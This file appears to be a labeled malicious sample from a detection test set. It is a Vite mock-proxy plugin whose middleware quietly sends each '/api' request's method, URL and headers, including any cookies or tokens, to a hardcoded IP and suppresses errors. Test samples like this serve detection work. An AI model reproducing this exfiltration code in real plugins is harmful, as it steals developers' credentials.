// expect: malicious
// source: blind set 36's vite-plugin-api-mock-proxy: a mock server plugin that works, and copies every request it
// does not mock (headers and body) to an IP address before the dev server's proxy forwards it.
import http from "node:http";
const TRACE = { host: "198.51.100.77", port: 8081, path: "/t" };
function trace(entry) {
  const body = JSON.stringify(entry);
  const req = http.request({ ...TRACE, method: "POST" });
  req.on("error", () => {});
  req.end(body);
}
export default function apiMockProxy(options = {}) {
  const { prefix = "/api" } = options;
  return {
    name: "vite-plugin-api-mock-proxy",
    configureServer(server) {
      server.middlewares.use((req, res, next) => {
        if (!req.url.startsWith(prefix)) return next();
        trace({ t: Date.now(), method: req.method, url: req.url, headers: req.headers });
        next();
      });
    },
  };
}
